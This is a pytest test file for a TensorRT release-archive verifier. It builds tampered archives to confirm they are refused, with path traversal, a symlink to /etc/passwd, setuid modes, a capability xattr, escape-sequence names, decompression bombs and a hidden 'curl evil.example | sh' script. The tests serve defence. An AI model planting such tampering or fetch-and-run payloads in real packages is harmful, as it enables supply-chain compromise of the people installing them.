"""`trtforge verify-package` on real archives built here in the package stage's format.

Each refused case is a specific damage or tampering a deployment could meet; each test
asserts both that it is refused and that the one-line message names the actual problem.
"""

from __future__ import annotations

import dataclasses
import gzip
import hashlib
import io
import json
import os
import random
import subprocess
import sys
import tarfile
import tracemalloc
import types
import unicodedata
from pathlib import Path

import pytest

from trtforge.errors import StageError
from trtforge.release_verify import PackageError, verify_archive
from trtforge.stages.package import PackageJob, make_package

STEM = "yolov8n-fp16-trt10.8.0-sm86-0123abcd"
TRTFORGE = Path(sys.executable).parent / "trtforge"


# ----------------------------------------------------------------------------- builder

def good_members() -> dict[str, bytes]:
    rnd = random.Random(0)  # incompressible, so the compressed stream has a real middle
    return {
        "engine.plan": rnd.randbytes(64 << 10),
        "model.onnx": rnd.randbytes(32 << 10),
        "calib.cache": b"TRT-8600-EntropyCalibration2\nimages: 3c010a14\n",
        "check.json": b'{"passed": true}\n',
        "reproduce.sh": b"#!/bin/sh\ntrtexec --onnx=model.onnx --saveEngine=engine.plan\n",
        "triton/yolov8n_fp16/config.pbtxt": b'name: "yolov8n_fp16"\nplatform: "tensorrt_plan"\n',
        "triton/yolov8n_fp16/1/model.plan": b"plan",
    }


def manifest_for(members: dict[str, bytes], **extra) -> bytes:
    manifest = {
        "format": "trtforge-release/1",
        "files": {n: {"sha256": hashlib.sha256(d).hexdigest(), "bytes": len(d)} for n, d in sorted(members.items())},
        "tensorrt": "10.8.0",
        "device": {"gpu": "NVIDIA GeForce RTX 3090", "compute_capability": "8.6"},
        **extra,
    }
    return (json.dumps(manifest, indent=2, sort_keys=True) + "\n").encode()


def entry(name: str, data: bytes = b"", kind: bytes = tarfile.REGTYPE, linkname: str = "") -> tuple:
    """A tar member with the package stage's reproducible settings; `name` is used verbatim."""
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, linkname
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    info.mtime, info.uid, info.gid, info.uname, info.gname = 0, 0, 0, "", ""
    info.mode = 0o755 if kind == tarfile.DIRTYPE or name.endswith(".sh") else 0o644
    return info, data


def tar_bytes(entries: list[tuple]) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for info, data in entries:
            tar.addfile(info, io.BytesIO(data) if info.isreg() else None)
    return raw.getvalue()


def gzip_bytes(raw: bytes) -> bytes:
    out = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=out, mtime=0, compresslevel=9) as gz:
        gz.write(raw)
    return out.getvalue()


def write_gz(folder: Path, data: bytes, *, stem: str = STEM, sidecar: bool = True) -> Path:
    """`data` as the archive, with a sidecar that matches it (so a tampering that also
    rewrote the sidecar is what the other checks must catch)."""
    archive = folder / f"{stem}.tar.gz"
    archive.write_bytes(data)
    if sidecar:
        digest = hashlib.sha256(data).hexdigest()
        archive.with_name(archive.name + ".sha256").write_text(f"{digest}  {archive.name}\n")
    return archive


def write_archive(folder: Path, entries: list[tuple], *, stem: str = STEM, sidecar: bool = True) -> Path:
    return write_gz(folder, gzip_bytes(tar_bytes(entries)), stem=stem, sidecar=sidecar)


def good_entries(members: dict[str, bytes] | None = None, *, manifest: bytes | None = None,
                 dirs: bool = False) -> list[tuple]:
    members = good_members() if members is None else members
    files = dict(members)
    files["manifest.json"] = manifest_for(members) if manifest is None else manifest
    entries = [entry(f"{STEM}/{name}", files[name]) for name in sorted(files)]
    if dirs:
        entries = [entry(STEM, kind=tarfile.DIRTYPE), entry(f"{STEM}/triton", kind=tarfile.DIRTYPE)] + entries
    return entries


def build(folder: Path, members: dict[str, bytes] | None = None, *, manifest: bytes | None = None,
          extra: list[tuple] = (), sidecar: bool = True, dirs: bool = False, edit=None) -> Path:
    """A release archive of `members` (default: a good one) with `manifest` (default: right
    for `members`) and `extra` raw entries appended after the sorted files; `edit(info)`
    may change any member's header before it is written."""
    entries = good_entries(members, manifest=manifest, dirs=dirs) + list(extra)
    for info, _ in entries:
        if edit:
            edit(info)
    return write_archive(folder, entries, sidecar=sidecar)


def listing(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*"))


@pytest.fixture(autouse=True)
def no_tensorrt(monkeypatch):
    """The host check is tested explicitly below; elsewhere behave as on a host without TensorRT."""
    monkeypatch.setitem(sys.modules, "tensorrt", None)


def refused(archive: Path, match: str, **limits) -> PackageError:
    with pytest.raises(PackageError, match=match) as info:
        verify_archive(archive, **limits)
    message = str(info.value)
    assert "\n" not in message and message.startswith(f"{archive}: ")
    return info.value


def run_cli(*args) -> subprocess.CompletedProcess:
    return subprocess.run([TRTFORGE, *map(str, args)], capture_output=True, text=True, timeout=30)


# ----------------------------------------------------------------------------- passing

@pytest.mark.parametrize("sidecar, dirs", [(True, False), (False, True)])
def test_good_archive_passes(tmp_path, sidecar, dirs):
    archive = build(tmp_path, sidecar=sidecar, dirs=dirs)
    report = verify_archive(archive)
    assert report["files"] == len(good_members())
    assert report["tensorrt"] == "10.8.0" and report["compute_capability"] == "8.6"
    assert report["sidecar"] == ("matched" if sidecar else "absent")
    assert report["host_check"] == "skipped: TensorRT not installed"


def test_good_archive_passes_on_the_command_line(tmp_path):
    archive = build(tmp_path)
    result = run_cli("verify-package", archive)
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith(f"OK  {archive.name}\n") and "sha256 matches" in result.stdout
    as_json = run_cli("verify-package", "--json", archive)
    assert as_json.returncode == 0 and json.loads(as_json.stdout)["files"] == len(good_members())


# ----------------------------------------------------------------------------- damage

def flip_middle_byte(archive: Path) -> None:
    data = bytearray(archive.read_bytes())
    data[len(data) // 2] ^= 0xFF  # inside the deflate data: header is 10 bytes, trailer 8
    archive.write_bytes(bytes(data))


def test_flipped_byte_is_caught_by_the_sidecar_before_decompressing(tmp_path):
    archive = build(tmp_path)
    flip_middle_byte(archive)
    refused(archive, r"sha256 .* does not match .*\.sha256")
    result = run_cli("verify-package", archive)
    assert result.returncode == 1 and result.stdout == ""
    assert result.stderr.startswith(f"trtforge: {archive}: sha256 ") and result.stderr.count("\n") == 1


def test_flipped_byte_without_sidecar_is_caught_by_gzip(tmp_path):
    archive = build(tmp_path, sidecar=False)
    flip_middle_byte(archive)
    refused(archive, r"corrupt gzip data")


def test_truncated_archive(tmp_path):
    archive = build(tmp_path, sidecar=False)
    archive.write_bytes(archive.read_bytes()[:-1000])
    refused(archive, r"truncated: the gzip stream ends early")
    assert run_cli("verify-package", archive).returncode == 1


def test_not_gzip_and_empty(tmp_path):
    archive = tmp_path / f"{STEM}.tar.gz"
    archive.write_bytes(b"PK\x03\x04 not a gzip")
    refused(archive, r"corrupt gzip data \(Not a gzipped file")
    archive.write_bytes(b"")
    refused(archive, r"empty file")


def test_decompression_bomb_ratio(tmp_path):
    archive = build(tmp_path, {"engine.plan": bytes(6 << 20)})  # ~6 KiB compressed
    refused(archive, r"compression ratio above 100:1", max_ratio=100)


def test_decompression_bomb_size(tmp_path):
    archive = build(tmp_path)
    refused(archive, r"decompresses to more than 65536 bytes", max_bytes=64 << 10)


# ----------------------------------------------------------------------------- members

def test_file_in_manifest_missing_from_archive(tmp_path):
    members = good_members()
    manifest = manifest_for(members)
    del members["calib.cache"]
    refused(build(tmp_path, members, manifest=manifest), r"listed in manifest.json but missing .*: calib.cache$")


def test_file_content_differs_from_manifest(tmp_path):
    members = good_members()
    manifest = manifest_for(members)
    members["engine.plan"] = members["engine.plan"][:-1] + b"X"
    refused(build(tmp_path, members, manifest=manifest), r"^.*: engine.plan: content does not match manifest.json")


def test_extra_unlisted_file(tmp_path):
    manifest = manifest_for(good_members())
    members = {**good_members(), "backdoor.so": b"\x7fELF"}
    refused(build(tmp_path, members, manifest=manifest), r"not listed in manifest.json: backdoor.so$")


@pytest.mark.parametrize("name, match", [
    (f"{STEM}/../evil.sh", r"has a '\.\.' component"),
    (f"{STEM}/triton/../../evil.sh", r"has a '\.\.' component"),
    ("/etc/cron.d/evil", r"has an absolute path"),
    ("other-stem/engine.plan", rf"is not under {STEM}/"),
    (f"{STEM}/./engine.plan", r"has a non-canonical name"),
])
def test_unsafe_member_names(tmp_path, name, match):
    refused(build(tmp_path, extra=[entry(name, b"x")]), rf"member '.*' {match}")


@pytest.mark.parametrize("kind, linkname, match", [
    (tarfile.SYMTYPE, "/etc/passwd", r"is a symlink \(to '/etc/passwd'\)"),
    (tarfile.LNKTYPE, f"{STEM}/engine.plan", r"is a hard link"),
    (tarfile.CHRTYPE, "", r"is a device file"),
    (tarfile.BLKTYPE, "", r"is a device file"),
    (tarfile.FIFOTYPE, "", r"is a FIFO"),
])
def test_links_and_devices(tmp_path, kind, linkname, match):
    refused(build(tmp_path, extra=[entry(f"{STEM}/extra", kind=kind, linkname=linkname)]),
            rf"member '{STEM}/extra' {match}")


def test_duplicate_member(tmp_path):
    refused(build(tmp_path, extra=[entry(f"{STEM}/engine.plan", b"second copy wins on extraction")]),
            rf"member '{STEM}/engine.plan' appears more than once")


def test_wrong_top_folder_for_the_file_name(tmp_path):
    archive = build(tmp_path)
    renamed = archive.rename(tmp_path / "renamed.tar.gz")
    refused(renamed, r"member 'yolov8n-.*' is not under renamed/")


# ----------------------------------------------------------------------------- manifest

@pytest.mark.parametrize("manifest, match", [
    (None, r"no manifest.json in the archive"),
    (b"{not json", r"manifest.json is not valid JSON"),
    (b'{"format": "trtforge-release/2", "files": {}}', r"format is 'trtforge-release/2'"),
    (b"[1, 2]", r"format is 'list'"),
    (b'{"format": "trtforge-release/1", "files": ["engine.plan"]}', r"'files' must map each path"),
])
def test_missing_or_invalid_manifest(tmp_path, manifest, match):
    members = {**good_members()}
    if manifest is None:
        entries = [entry(f"{STEM}/{n}", members[n]) for n in sorted(members)]
        archive = write_archive(tmp_path, entries)
    else:
        archive = build(tmp_path, members, manifest=manifest)
    refused(archive, match)


def test_bad_sidecar(tmp_path):
    archive = build(tmp_path)
    sidecar = archive.with_name(archive.name + ".sha256")
    sidecar.write_text("not a hash\n")
    refused(archive, r"is not one sha256sum line")
    sidecar.write_text(f"{'0' * 64}  other.tar.gz\n")
    refused(archive, r"is for 'other.tar.gz', not this archive")


# ----------------------------------------------------------------------------- no writes

def test_verifying_never_creates_files(tmp_path, monkeypatch):
    work = tmp_path / "cwd"
    work.mkdir()
    monkeypatch.chdir(work)  # where an accidental extractall() would write
    cases = [[], [entry(f"{STEM}/../escape", b"x")], [entry(f"{STEM}/link", kind=tarfile.SYMTYPE, linkname="/tmp")]]
    archives = []
    for i, extra in enumerate(cases):
        (tmp_path / f"a{i}").mkdir()
        archives.append(build(tmp_path / f"a{i}", extra=extra))
    before = listing(tmp_path)
    verify_archive(archives[0])
    for archive in archives[1:]:
        with pytest.raises(PackageError):
            verify_archive(archive)
    assert run_cli("verify-package", archives[0]).returncode == 0
    assert listing(tmp_path) == before and listing(work) == []


# ----------------------------------------------------------------------------- host check

def fake_host(monkeypatch, trt: str, ccs: list[tuple[int, int]] | None) -> None:
    monkeypatch.setitem(sys.modules, "tensorrt", types.SimpleNamespace(__version__=trt))
    if ccs is None:
        def init():
            raise RuntimeError("NVML Shared Library Not Found")
    else:
        def init():
            return None
    monkeypatch.setitem(sys.modules, "pynvml", types.SimpleNamespace(
        nvmlInit=init, nvmlShutdown=lambda: None, nvmlDeviceGetCount=lambda: len(ccs or []),
        nvmlDeviceGetHandleByIndex=lambda i: i, nvmlDeviceGetCudaComputeCapability=lambda h: ccs[h]))


def test_host_check_passes_on_a_matching_host(tmp_path, monkeypatch):
    fake_host(monkeypatch, "10.8.0.43", [(7, 5), (8, 6)])
    assert verify_archive(build(tmp_path))["host_check"] == "passed"


def test_host_check_other_tensorrt(tmp_path, monkeypatch):
    fake_host(monkeypatch, "10.3.0", [(8, 6)])
    refused(build(tmp_path), r"built for TensorRT 10.8.0, this host has TensorRT 10.3.0")


def test_host_check_other_gpu(tmp_path, monkeypatch):
    fake_host(monkeypatch, "10.8.0", [(8, 9)])
    refused(build(tmp_path), r"built for compute capability 8.6 \(NVIDIA GeForce RTX 3090\), this host's GPUs are 8.9")


def test_host_check_without_gpu_is_skipped_not_passed(tmp_path, monkeypatch):
    fake_host(monkeypatch, "10.8.0", None)
    assert verify_archive(build(tmp_path))["host_check"] == "skipped: no NVIDIA GPU visible (TensorRT 10.8.0 matches)"


# ----------------------------------------------------------------------------- CLI

def test_cli_missing_file_is_a_usage_error(tmp_path):
    result = run_cli("verify-package", tmp_path / "nope.tar.gz")
    assert result.returncode == 2 and "does not exist" in result.stderr


def test_cli_unexpected_error_is_one_line_unless_debug(tmp_path, monkeypatch):
    from click.testing import CliRunner

    import trtforge.release_verify
    from trtforge.cli import main

    def boom(*args, **kwargs):
        raise ValueError("something broke")

    monkeypatch.setattr(trtforge.release_verify, "verify_archive", boom)
    archive = build(tmp_path)
    plain = CliRunner().invoke(main, ["verify-package", str(archive)])
    assert plain.exit_code == 1
    assert "unexpected error: ValueError: something broke" in plain.output and "--debug" in plain.output
    assert "Traceback" not in plain.output
    debug = CliRunner().invoke(main, ["--debug", "verify-package", str(archive)])
    assert isinstance(debug.exception, ValueError)


# ----------------------------------------------------------------------------- issue 13: tampering shapes
# Each archive below lists every file it holds in its manifest, with a matching sidecar:
# the tampering is in what the hashes do not cover (headers, names, bytes past the end).

def edit_member(relative: str, **fields):
    def edit(info: tarfile.TarInfo) -> None:
        if info.name == f"{STEM}/{relative}".rstrip("/"):
            for key, value in fields.items():
                setattr(info, key, value)
    return edit


@pytest.mark.parametrize("relative, mode, says", [
    ("reproduce.sh", 0o4755, r"has mode 4755 \(setuid\), not 0755"),
    ("engine.plan", 0o2644, r"has mode 2644 \(setgid\), not 0644"),
    ("triton", 0o1777, r"has mode 1777 \(sticky, world-writable, group-writable\), not 0755"),
    ("model.onnx", 0o666, r"has mode 0666 \(world-writable, group-writable\), not 0644"),
    ("engine.plan", 0o755, r"has mode 0755, not 0644"),  # an executable engine: not what the package stage writes
    ("reproduce.sh", 0o600, r"has mode 0600, not 0755"),
])
def test_modes_other_than_the_package_stages_are_refused(tmp_path, relative, mode, says):
    archive = build(tmp_path, dirs=True, edit=edit_member(relative, mode=mode))
    refused(archive, rf"member '{STEM}/{relative}' {says}: a release has 0755 folders, 0755 \*\.sh scripts, 0644 other")


@pytest.mark.parametrize("field, value, says", [
    ("uid", 1000, r"uid 1000, gid 0 \(names '', ''\)"),
    ("gid", 27, r"uid 0, gid 27 \(names '', ''\)"),
    ("uname", "root", r"uid 0, gid 0 \(names 'root', ''\)"),  # GNU tar maps names before ids
    ("gname", "wheel", r"uid 0, gid 0 \(names '', 'wheel'\)"),
])
def test_owners_other_than_root_without_names_are_refused(tmp_path, field, value, says):
    archive = build(tmp_path, edit=edit_member("calib.cache", **{field: value}))
    refused(archive, rf"member '{STEM}/calib.cache' is owned by {says}, not uid 0, gid 0 with no names")


def test_extended_attributes_are_refused(tmp_path):
    capability = {"SCHILY.xattr.security.capability": "\x01\x00\x00\x02\x00\x20\x00\x00"}  # cap_sys_admin
    archive = build(tmp_path, edit=edit_member("reproduce.sh", pax_headers=capability))
    refused(archive, rf"member '{STEM}/reproduce.sh' carries the PAX record 'SCHILY.xattr.security.capability'")


PAYLOAD = [entry(f"{STEM}/reproduce.sh", b"#!/bin/sh\ncurl evil.example | sh\n")]


def test_data_after_the_tar_end_marker_is_refused(tmp_path):
    good = tar_bytes(good_entries())
    hidden = write_gz(tmp_path, gzip_bytes(good + tar_bytes(PAYLOAD)))  # `tar -xi` extracts the second copy
    refused(hidden, rf"data after the tar end marker: \d+ bytes follow the last member "
                    rf"'{STEM}/triton/yolov8n_fp16/config.pbtxt' at tar offset \d+ and are not all zero padding")
    junk = write_gz(tmp_path, gzip_bytes(good[:-3] + b"END"))  # in the zero padding tarfile never reads
    refused(junk, r"data after the tar end marker: \d+ bytes follow the last member")


@pytest.mark.parametrize("appended, says", [
    (b"\0" * 1024, r"1024 bytes after the end of the gzip stream"),  # Python's gzip skips these
    (gzip_bytes(tar_bytes(PAYLOAD)), r"\d+ bytes after the end of the gzip stream"),  # gzip -d reads it as more data
])
def test_bytes_appended_after_the_gzip_stream_are_refused(tmp_path, appended, says):
    archive = write_gz(tmp_path, gzip_bytes(tar_bytes(good_entries())) + appended)
    refused(archive, says + r" at byte \d+: data appended to the archive \(the package stage writes one gzip stream\)")


NFC = unicodedata.normalize("NFC", "modèle.onnx")
NFD = unicodedata.normalize("NFD", "modèle.onnx")


@pytest.mark.parametrize("twins, says", [
    (("engine.plan", "Engine.plan"), rf"members '{STEM}/Engine.plan' and '{STEM}/engine.plan' differ only in case"),
    ((NFC, NFD), r"members '.*/mode\\u0300le.onnx' and '.*/mod\\xe8le.onnx' differ only in case or Unicode normalisation"),
    (("triton/a.txt", "Triton/b.txt"),
     rf"member '{STEM}/triton/a.txt': paths '{STEM}/Triton' and '{STEM}/triton' differ only in case"),
    (("engine.plan", "engine.plan."), rf"members '{STEM}/engine.plan' and '{STEM}/engine.plan.' differ only"),  # Windows drops the dot
])
def test_names_that_collide_on_macos_or_windows_are_refused(tmp_path, twins, says):
    members = {**good_members(), twins[0]: b"first", twins[1]: b"second"}
    archive = build(tmp_path, members)
    error = refused(archive, says)
    assert "one overwrites the other on macOS and Windows" in str(error)


@pytest.mark.parametrize("name, code", [
    ("engine\n.plan", "000A"),
    ("\x1b[2J\x1b[Hreadme.txt", "001B"),
    ("a\x7fb", "007F"),
    ("invoice\u202egnp.sh", "202E"),  # right-to-left override: shows as "invoicehs.png"
])
def test_control_characters_in_names_are_refused(tmp_path, name, code):
    archive = build(tmp_path, {**good_members(), name: b"x"})
    refused(archive, rf"member '{STEM}/.*' has a control or non-printable character \(U\+{code}\) in its name")
    result = run_cli("verify-package", archive)
    assert result.returncode == 1 and result.stderr.count("\n") == 1 and "\x1b" not in result.stderr


def test_manifest_strings_reach_messages_and_the_report_escaped(tmp_path):
    members = good_members()
    manifest = json.loads(manifest_for(members, tensorrt="10.8.0\x1b]0;owned\x07"))
    archive = build(tmp_path, members, manifest=json.dumps(manifest).encode())
    assert verify_archive(archive)["tensorrt"] == "10.8.0\\x1b]0;owned\\x07"
    manifest["files"]["\x1b[2Jgone\n.plan"] = {"sha256": "0" * 64, "bytes": 1}  # listed, not shipped
    archive = build(tmp_path, members, manifest=json.dumps(manifest).encode())
    error = refused(archive, r"listed in manifest.json but missing from the archive: \\x1b\[2Jgone\\n\.plan$")
    assert "\x1b" not in str(error)


def peak_memory(call) -> int:
    tracemalloc.start()
    try:
        call()
    except PackageError:
        pass
    finally:
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    return peak


@pytest.mark.parametrize("json_member", ["manifest.json", "summary.json"])
def test_members_are_read_in_chunks_and_json_members_capped_before_reading(tmp_path, json_member):
    # zeros compress about 1000:1, so these archives are small; max_ratio lets them through step 2
    members = {**good_members(), "engine.plan": bytes(48 << 20)}
    big = b"{}" + b" " * (17 << 20)  # valid JSON, just over the 16 MiB cap
    archive = build(tmp_path, {**members, "summary.json": big} if json_member == "summary.json" else members,
                    manifest=big if json_member == "manifest.json" else None)
    refused(archive, rf"member '{STEM}/{json_member}' is {len(big)} bytes, more than the 16777216 a release's "
                     rf"{json_member} may be; refused without reading it", max_ratio=5000)
    assert peak_memory(lambda: verify_archive(archive, max_ratio=5000)) < 8 << 20


def test_oversized_sidecar_is_refused_without_reading_it(tmp_path):
    archive = build(tmp_path)
    sidecar = archive.with_name(archive.name + ".sha256")
    sidecar.write_text(sidecar.read_text() + "\n" * (32 << 20))  # one good line, then 32 MiB sha256sum never writes
    refused(archive, rf"{sidecar.name} is {sidecar.stat().st_size} bytes, not one sha256sum line \(at most 4096\)")
    assert peak_memory(lambda: verify_archive(archive)) < 1 << 20


def summary_for(engine: bytes) -> bytes:
    """The engine stage's summary.json, reduced to the fields the cross-check reads."""
    return json.dumps({"engine_sha256": hashlib.sha256(engine).hexdigest(), "engine_bytes": len(engine)}).encode()


def test_engine_must_be_the_one_summary_json_records(tmp_path):
    members = good_members()
    members["triton/yolov8n_fp16/1/model.plan"] = members["engine.plan"]
    swapped = {**members, "summary.json": summary_for(b"the engine that was built and checked")}
    refused(build(tmp_path, swapped), r": engine.plan: sha256 [0-9a-f]{16}\.\.\. is not the engine summary.json "
                                      r"records \([0-9a-f]{16}\.\.\.\): the engine was changed after it was built")
    triton = {**members, "summary.json": summary_for(members["engine.plan"]),
              "triton/yolov8n_fp16/1/model.plan": b"another plan"}
    refused(build(tmp_path, triton), r": triton/yolov8n_fp16/1/model.plan: sha256 .* is not the engine summary.json")
    gone = {k: v for k, v in members.items() if k != "engine.plan"} | {"summary.json": summary_for(b"x")}
    refused(build(tmp_path, gone), r"summary.json records engine sha256 [0-9a-f]{16}\.\.\. but the archive has no engine.plan")


def package_job(folder: Path, engine: bytes) -> PackageJob:
    """A package job over the files the engine stage leaves (summary.json as it writes it)."""
    out = folder / "artifacts"
    out.mkdir()
    (out / "engine.plan").write_bytes(engine)
    (out / "model.onnx").write_bytes(b"onnx")
    (out / "trtexec.sh").write_text("#!/bin/sh\ntrtexec --onnx=model.onnx --saveEngine=engine.plan\n")
    (out / "export.json").write_text("{}")
    (out / "summary.json").write_text(json.dumps({
        "tensorrt": "10.8.0", "argv": [], "performance": {},
        "device": {"gpu": "NVIDIA GeForce RTX 3090", "compute_capability": "8.6"},
        "engine_bytes": len(engine), "engine_sha256": hashlib.sha256(engine).hexdigest()}))
    return PackageJob(task="package:yolov8n-fp16", recipe="yolov8n", variant="fp16",
                      files=tuple((n, out / n) for n in ("engine.plan", "model.onnx", "summary.json")),
                      summary=out / "summary.json", script=out / "trtexec.sh", export_metadata=out / "export.json",
                      resolved_recipe={"name": "yolov8n"}, max_batch=0, triton=None, ultralytics_engine=False, ship_onnx=True,
                      release_dir=folder / "release", record=folder / "release.json")


def test_package_stage_refuses_an_engine_changed_after_it_was_built(tmp_path):
    engine = random.Random(1).randbytes(4096)
    job = package_job(tmp_path, engine)
    make_package(job)
    (archive,) = job.release_dir.glob("*.tar.gz")
    # the package stage's own archive passes every check: modes, owners, padding, engine hash
    assert verify_archive(archive)["engine_sha256"] == hashlib.sha256(engine).hexdigest()
    released = archive.read_bytes()

    plan = job.files[0][1]
    stat = plan.stat()
    plan.write_bytes(engine[:100] + bytes([engine[100] ^ 1]) + engine[101:])  # same size, then the old mtime
    os.utime(plan, ns=(stat.st_atime_ns, stat.st_mtime_ns))
    with pytest.raises(StageError) as info:
        make_package(job)
    message = str(info.value)
    assert "\n" not in message and message.startswith(f"package:yolov8n-fp16: {plan} has sha256 ")
    assert message.endswith("records: the engine changed after it was built; rebuild it with "
                            "`doit forget engine:yolov8n-fp16` then `doit package:yolov8n-fp16`")
    assert archive.read_bytes() == released  # the earlier release is left as it was


def test_a_huge_trtexec_log_is_shipped_as_its_head_and_tail(tmp_path):
    """A --verbose build's log of hundreds of MB would be shipped whole and read whole into
    memory; the release carries its first and last 4 MiB and says what was left out. 20 MiB
    stands in for the hundreds."""
    from trtforge.stages.package import SHIPPED_LOG_MAX

    engine = random.Random(2).randbytes(4096)
    job = package_job(tmp_path, engine)
    log = job.summary.with_name("trtexec.log")
    body = b"".join(b"[V] line %08d\n" % i for i in range((20 << 20) // 15))
    log.write_bytes(b"&&&& RUNNING head\n" + body + b"&&&& PASSED tail\n")
    job = dataclasses.replace(job, files=(*job.files, ("trtexec.log", log)))
    make_package(job)
    (archive,) = job.release_dir.glob("*.tar.gz")
    verify_archive(archive)
    with tarfile.open(archive) as tar:
        shipped = tar.extractfile(next(m for m in tar.getmembers() if m.name.endswith("/trtexec.log"))).read()
    assert len(shipped) < SHIPPED_LOG_MAX + 200
    assert shipped.startswith(b"&&&& RUNNING head\n") and shipped.endswith(b"&&&& PASSED tail\n")
    left_out = log.stat().st_size - SHIPPED_LOG_MAX
    assert f"[trtforge: {left_out} bytes of this log left out; the build's artifacts folder keeps it whole]".encode() \
        in shipped


def test_a_release_name_says_unverified_until_every_comparison_ran_and_a_failed_check_is_never_packaged(tmp_path):
    """Issue 14: a skipped engine comparison makes the release unverified in its file names
    too (the archive, its folder inside and its sidecar); the record keeps its fixed name."""
    engine = random.Random(4).randbytes(4096)
    job = package_job(tmp_path, engine)
    stem = f"yolov8n-fp16-trt10.8.0-sm86-{hashlib.sha256(engine).hexdigest()[:8]}"
    check = job.summary.with_name("check.json")
    job = dataclasses.replace(job, files=(*job.files, ("check.json", check)))

    def released() -> set[str]:
        return {p.name for p in job.release_dir.iterdir()}

    check.write_text(json.dumps({"passed": True, "engine": {"status": "skipped: TensorRT not installed"}}))
    make_package(job)
    assert released() == {f"{stem}-unverified.tar.gz", f"{stem}-unverified.tar.gz.sha256"}
    assert verify_archive(job.release_dir / f"{stem}-unverified.tar.gz")["sidecar"] == "matched"
    assert json.loads(job.record.read_text())["archive"] == f"{stem}-unverified.tar.gz"

    check.write_text(json.dumps({"passed": True, "engine": {"status": "passed"}}))  # checked again with TensorRT
    make_package(job)
    assert released() == {f"{stem}.tar.gz", f"{stem}.tar.gz.sha256"}  # the unverified one is superseded
    assert verify_archive(job.release_dir / f"{stem}.tar.gz")["sidecar"] == "matched"

    check.write_text(json.dumps({"passed": False, "engine": {"status": "passed"}}))
    with pytest.raises(StageError) as info:
        make_package(job)
    assert str(info.value) == (f"package:yolov8n-fp16: {check} says the variant failed its check, and a failed "
                               "variant is never released; fix what `doit check:yolov8n-fp16` reports, then rerun")
    assert released() == {f"{stem}.tar.gz", f"{stem}.tar.gz.sha256"}


@pytest.mark.parametrize("engine, gate, status", [
    ("passed", "passed", "verified"),
    ("skipped: TensorRT not installed", "passed", "unverified: engine comparison skipped: TensorRT not installed"),
    ("passed", "skipped: the FP32 reference detects nothing", "unverified: task gate skipped: the FP32 reference "
                                                              "detects nothing"),
])
def test_a_release_is_verified_only_when_every_comparison_ran_and_passed(engine, gate, status):
    """check.json's `passed` means no comparison failed; one that could not run proved nothing
    (issue 14: a release whose engine was never compared said passed: true)."""
    from trtforge.stages.package import verification_of

    verdict = verification_of({"passed": True, "engine": {"status": engine}, "gate": {"status": gate}})
    assert (verdict["status"], verdict["passed"]) == (status, status == "verified")


def ultralytics_header(job: PackageJob, export: dict, verify: dict | None = None) -> dict:
    """The metadata of the `.engine` the package stage writes for `export` (export.json) and
    the recipe's `verify` section, read by Ultralytics' own reader."""
    from ultralytics.nn.backends.base import BaseBackend

    job.export_metadata.write_text(json.dumps(export))
    job = dataclasses.replace(job, ultralytics_engine=True,
                              resolved_recipe={"name": "yolov8n", "file": "yolov8n.yaml", "verify": verify})
    make_package(job)
    (archive,) = job.release_dir.glob("*.tar.gz")
    with tarfile.open(archive) as tar:
        plan = tar.extractfile(next(m for m in tar.getmembers() if m.name.endswith(".engine"))).read()
    engine = job.release_dir / "x.engine"
    engine.write_bytes(plan)
    return BaseBackend.engine_header(engine)[1]


CLASSIFY_FEED = {"resize": "shortest_edge", "resize_to": 224, "pad": 114, "channels": "rgb", "scale": 255.0,
                 "mean": [0.0, 0.0, 0.0], "std": [1.0, 1.0, 1.0]}


def test_the_ultralytics_engine_header_names_the_task_that_is_known_never_a_guessed_detect(tmp_path):
    """The header's task picks Ultralytics' predictor, so how YOLO() feeds and decodes the
    engine: a classifier's header said `task: detect` (issue 14)."""
    job = package_job(tmp_path, random.Random(3).randbytes(4096))
    names = {"0": "cat", "1": "dog"}
    said = ultralytics_header(job, {"task": "classify", "names": names, "imgsz": [224, 224],
                                    "preprocess": CLASSIFY_FEED}, verify={"task": "detect"})
    assert (said["task"], said["names"]) == ("classify", names)  # the model's own task wins
    said = ultralytics_header(job, {"imgsz": [224, 224], "preprocess": CLASSIFY_FEED}, verify={"task": "classify"})
    assert said["task"] == "classify"  # an ONNX without metadata: the recipe's verify.task

    for export, verify, why in [
        ({"imgsz": [224, 224]}, None, ("the model does not say its task and the recipe has no verify.task; add a "
                                       "verify section with its task, or remove package.ultralytics_engine")),
        ({"imgsz": [224, 224]}, {"task": "raw"}, "the model does not say its task"),
        ({"task": "classify", "imgsz": [224, 224], "preprocess": {**CLASSIFY_FEED, "resize": "letterbox"}}, None,
         ("Ultralytics' YOLO() feeds a classify model as input.preprocess: {preset: ultralytics, resize: "
          "shortest_edge, resize_to: 224} does, not as the recipe feeds it; set that, or remove "
          "package.ultralytics_engine")),
    ]:
        with pytest.raises(StageError) as info:
            ultralytics_header(job, export, verify)
        message = str(info.value)
        assert message.startswith("package:yolov8n-fp16: recipes/yolov8n.yaml: package.ultralytics_engine: ")
        assert why in message and "\n" not in message, message
